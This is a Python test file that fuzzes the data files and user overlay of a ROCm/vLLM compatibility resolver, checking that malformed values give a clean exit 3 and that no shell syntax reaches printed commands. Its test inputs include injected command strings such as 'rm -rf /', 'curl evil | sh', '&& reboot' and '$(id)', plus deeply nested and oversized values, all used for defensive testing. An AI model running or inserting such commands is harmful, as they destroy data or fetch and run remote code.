"""Channel: the data files (matrix/*.toml) and the user overlay. Any value in any field is a
clear exit 3 naming the file, never a traceback; a field that reaches a printed command is
pattern-checked at load."""

from __future__ import annotations

import json
import shutil
import tomllib
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from resolver.data import matrix, overlay

from .conftest import HOSTILE, assert_clean, cli, write

FROZEN = Path(__file__).resolve().parent.parent / "data" / "matrix"

toml_scalars = st.one_of(
    st.booleans(),
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=False, allow_infinity=False),
    st.text(max_size=20),
    st.sampled_from(
        ["3.12; rm -rf /", "3.12\n", "9.4.2 && id", "$(id)", "gfx942\n", "٣.١٢", "²", "9" * 400]
    ),
)
toml_values = st.recursive(
    toml_scalars,
    lambda inner: st.one_of(
        st.lists(inner, max_size=3),
        st.dictionaries(st.from_regex(r"[a-z_]{1,8}", fullmatch=True), inner, max_size=3),
    ),
    max_leaves=8,
)


def _toml_value(value: object) -> str:
    """TOML text for a value (inline tables and arrays), enough for the fuzzing."""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return (
            repr(value)
            if isinstance(value, int)
            else (repr(value) if "e" in repr(value) or "." in repr(value) else f"{value}.0")
        )
    if isinstance(value, str):
        return json.dumps(value)
    if isinstance(value, list):
        return "[" + ", ".join(_toml_value(v) for v in value) + "]"
    assert isinstance(value, dict)
    return "{" + ", ".join(f"{k} = {_toml_value(v)}" for k, v in value.items()) + "}"


FIELDS = {
    "wheels.toml": ["python", "name", "rocm", "glibc_min", "vllm", "index_url", "arch", "status"],
    "gfx.toml": [
        "override",
        "override_target",
        "name",
        "families",
        "vllm_status",
        "env",
        "features",
    ],
    "nodes.toml": ["gpus", "gfx", "python", "driver", "os", "rocm"],
    "images.toml": ["repo", "tag", "digest", "rocm", "python", "vllm", "arch", "stream"],
    "drivers.toml": ["series", "user_space", "paired_rocm"],
    "rocm.toml": ["version", "gfx", "os", "stream", "pytorch"],
    "vllm.toml": ["version", "sdist_sha256", "cmake_arch", "date"],
}


def _set_first(path: Path, field: str, value_toml: str) -> None:
    """Put ``field = value`` into the first record of ``path`` (replacing the field there)."""
    lines = path.read_text(encoding="utf-8").splitlines()
    first = next(i for i, line in enumerate(lines) if line.startswith("[["))
    end = next((i for i in range(first + 1, len(lines)) if lines[i].startswith("[")), len(lines))
    kept = [
        line
        for line in lines[first + 1 : end]
        if not line.startswith(f"{field} ") and not line.startswith(f"{field}=")
    ]
    path.write_text(
        "\n".join([*lines[: first + 1], f"{field} = {value_toml}", *kept, *lines[end:]]) + "\n",
        encoding="utf-8",
    )


@pytest.fixture
def data_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    dest = tmp_path / "matrix"
    shutil.copytree(FROZEN, dest)
    monkeypatch.setenv("ROCM_VLLM_MATRIX_DIR", str(dest))
    return dest


@HOSTILE
@given(
    file_field=st.sampled_from([(f, k) for f, ks in FIELDS.items() for k in ks]), value=toml_values
)
@example(file_field=("wheels.toml", "python"), value=["3.12; curl evil | sh"])
@example(file_field=("wheels.toml", "python"), value=["3.12\n"])
@example(file_field=("gfx.toml", "override"), value="9.4.2 && reboot")
@example(file_field=("gfx.toml", "override"), value="$(id)")
@example(file_field=("nodes.toml", "gpus"), value=2**63 - 1)
@example(file_field=("drivers.toml", "paired_rocm"), value="7." + "9" * 400)
@example(file_field=("images.toml", "rocm"), value="7." + "9" * 400)
@example(file_field=("drivers.toml", "paired_rocm"), value="not-a-version")
@example(file_field=("drivers.toml", "series"), value="³.1")
@example(file_field=("nodes.toml", "python"), value="3.12; id")
def test_any_value_in_any_field(
    file_field: tuple[str, str], value: object, tmp_path_factory: pytest.TempPathFactory
) -> None:
    file, field = file_field
    dest = tmp_path_factory.mktemp("m") / "matrix"
    shutil.copytree(FROZEN, dest)
    _set_first(dest / file, field, _toml_value(value))
    matrix.reload()
    env = {"ROCM_VLLM_MATRIX_DIR": str(dest)}
    for argv in (
        ["matrix", "validate"],
        ["check", "--gfx", "gfx942", "--gpus", "2", "--python", "3.12", "--explain"],
    ):
        o = cli(argv, env=env)
        assert_clean(o)
        # Nothing from the data reaches a printed command unvalidated: no shell syntax survives.
        for line in o.out.splitlines():
            if line.strip().startswith("$ ") or "uv venv" in line or "export " in line:
                assert not any(bad in line for bad in (";", "&&", "$(", "|", "`")), line


@pytest.mark.parametrize(
    ("file", "field", "value", "code"),
    [
        ("wheels.toml", "python", '["3.12; curl evil | sh"]', 3),
        ("gfx.toml", "override", '"9.4.2 && reboot"', 3),
        ("gfx.toml", "override_target", '"gfx942; id"', 3),
        ("nodes.toml", "gpus", "9" * 5000, 3),
        ("nodes.toml", "gpus", "1e400", 3),
        ("rocm.toml", "pytorch", "[" * 100_000 + "]" * 100_000, 3),
    ],
    ids=[
        "wheel-python",
        "gfx-override",
        "override-target",
        "huge-int",
        "float-overflow",
        "deep-array",
    ],
)
def test_validate_refuses(data_copy: Path, file: str, field: str, value: str, code: int) -> None:
    _set_first(data_copy / file, field, value)
    matrix.reload()
    o = cli(["matrix", "validate"])
    assert_clean(o)
    assert o.code == code and file in o.err, str(o)


def test_data_file_fifo_and_non_utf8(data_copy: Path) -> None:
    import os

    (data_copy / "os.toml").unlink()
    os.mkfifo(data_copy / "os.toml")
    matrix.reload()
    o = cli(["matrix", "validate"])
    assert o.code == 3 and "os.toml" in o.err and o.seconds < 2, str(o)
    (data_copy / "os.toml").unlink()
    (data_copy / "os.toml").write_bytes(b"\xff\xfe[[os]]\n")
    matrix.reload()
    o = cli(["matrix", "validate"])
    assert o.code == 3 and "UTF-8" in o.err, str(o)


# --- the overlay ------------------------------------------------------------------------------

overlay_docs = st.one_of(
    st.binary(max_size=200),
    st.builds(
        lambda v: json.dumps(v).encode(),
        st.recursive(
            toml_scalars,
            lambda inner: st.one_of(
                st.lists(inner, max_size=3),
                st.dictionaries(st.text(max_size=10), inner, max_size=3),
            ),
            max_leaves=10,
        ),
    ),
    st.builds(
        lambda recs: json.dumps({"format": 1, "files": recs}).encode(),
        st.dictionaries(
            st.sampled_from(["rocm.toml", "vllm.toml", "images.toml", "wheels.toml", "gfx.toml"]),
            st.lists(
                st.dictionaries(
                    st.sampled_from(
                        [
                            "version",
                            "repo",
                            "tag",
                            "name",
                            "python",
                            "rocm",
                            "source",
                            "digest",
                            "stack",
                        ]
                    ),
                    toml_scalars,
                    max_size=5,
                ),
                max_size=3,
            ),
            max_size=3,
        ),
    ),
)


@HOSTILE
@given(content=overlay_docs)
@example(content=b"\xff\xfe\x00not utf-8")
@example(content=b'{"format": 1, "files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
@example(
    content=b'{"format": 1, "files": {"images.toml": [{"repo": "a/b", "tag": "t", "rocm": "7.'
    + b"9" * 5000
    + b'"}]}}'
)
@example(
    content=b'{"format": 1, "files": '
    b'{"wheels.toml": [{"name": "rocm723", "python": ["3.12; id"]}]}}'
)
def test_overlay_any_content(content: bytes, tmp_path_factory: pytest.TempPathFactory) -> None:
    data = tmp_path_factory.mktemp("data")
    write(data / "overlay.json", content)
    matrix.reload()
    o = cli(["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_DATA_DIR": str(data)})
    assert_clean(o)


def test_overlay_not_utf8_is_exit_3(tmp_path: Path) -> None:
    write(tmp_path / "overlay.json", b"\xff\xfe")
    matrix.reload()
    o = cli(["check", "--gfx", "gfx942", "--quiet"], env={"ROCM_VLLM_DATA_DIR": str(tmp_path)})
    assert o.code == 3 and "UTF-8" in o.err, str(o)


def test_overlay_write_to_read_only_dir(tmp_path: Path) -> None:
    import os

    ro = tmp_path / "ro"
    ro.mkdir()
    ro.chmod(0o500)
    try:
        if os.access(ro, os.W_OK):
            pytest.skip("running as a user that can write anywhere (root)")
        from resolver.util.errors import InputError

        with pytest.raises(InputError) as caught:
            overlay.write(
                {"rocm.toml": [{"version": "7.2.3", "source": "x"}]},
                written_at="now",
                path=ro / "overlay.json",
            )
        assert caught.value.exit_code == 2
    finally:
        ro.chmod(0o700)


def test_overlay_write_where_the_data_dir_is_a_file(tmp_path: Path) -> None:
    from resolver.util.errors import InputError

    blocker = write(tmp_path / "file", "x")
    with pytest.raises(InputError) as caught:
        overlay.write(
            {"rocm.toml": [{"version": "7.2.3", "source": "x"}]},
            written_at="now",
            path=blocker / "overlay.json",
        )
    assert "cannot write the refreshed-data overlay" in caught.value.message


def test_toml_loader_is_bounded() -> None:
    from resolver.util import bounded

    for text in [
        "a = " + "[" * 100_000,
        "a = " + "{b = " * 100_000,
        "a = " + "9" * 5000,
        "a = inf",
        "a = nan",
    ]:
        with pytest.raises(tomllib.TOMLDecodeError):
            bounded.loads_toml(text)
